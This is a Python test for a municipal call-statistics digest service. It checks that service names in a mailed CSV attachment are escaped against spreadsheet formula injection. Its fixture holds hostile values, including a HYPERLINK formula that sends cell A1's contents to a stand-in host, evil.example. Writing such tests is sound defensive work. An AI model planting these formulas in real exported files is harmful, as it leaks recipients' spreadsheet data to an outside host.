"""Issue 24, spreadsheet formula injection, in the digest's CSV attachment: the service
names come from the configuration (text people type); the week's figures mailed as
``decroche-<week>.csv`` must give a spreadsheet no formula to evaluate. The message goes
through a real SMTP server (aiosmtpd) and its attachment is read back with ``csv``."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from aiohttp import web
from aiohttp.test_utils import TestClient

from service.digest.delivery import DigestSender
from service.keys import DB_POOL
from service.outside.mail import Mailer
from tests.service.digest.test_digest_mail import DUE, Clock
from tests.service.metrics.test_engagement8 import ingest
from tests.support.digest import DGS, municipality, weeks_of_calls
from tests.support.smtp import Inbox

Client = TestClient[web.Request, web.Application]
HOSTILE = {
    "accueil": '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "etat-civil": "-2+3",
    "astreinte": "@SUM(1)",
}


async def test_the_digest_csv_neutralises_service_names(
    client: Client, inbox: Inbox, smtp_url: str
) -> None:
    await ingest(client, weeks_of_calls())
    m = municipality()
    m = replace(m, services=tuple(replace(s, name=HOSTILE[s.slug]) for s in m.services))
    mailer = Mailer(smtp_url, "Décroché <decroche@ville.test>", timeout_s=20)
    sender = DigestSender(client.app[DB_POOL], m, mailer, clock=Clock(DUE), link=None)
    assert {o.result for o in await sender.weekly()} == {"sent"}
    attachment = next(inbox.to(DGS)[0].iter_attachments())
    rows = list(csv.DictReader(io.StringIO(attachment.get_content())))
    names = {r["service"]: r["name"] for r in rows}
    for slug, hostile in HOSTILE.items():
        assert names[slug] == "'" + hostile
    for row in rows:
        int(row["received"])  # numbers stay numbers
        assert not any(v.startswith(("=", "+", "@")) for v in row.values()), row
        delta = row["delta_answer_rate"]
        if delta.startswith("-"):
            float(delta)  # a negative number stays a number, unquoted
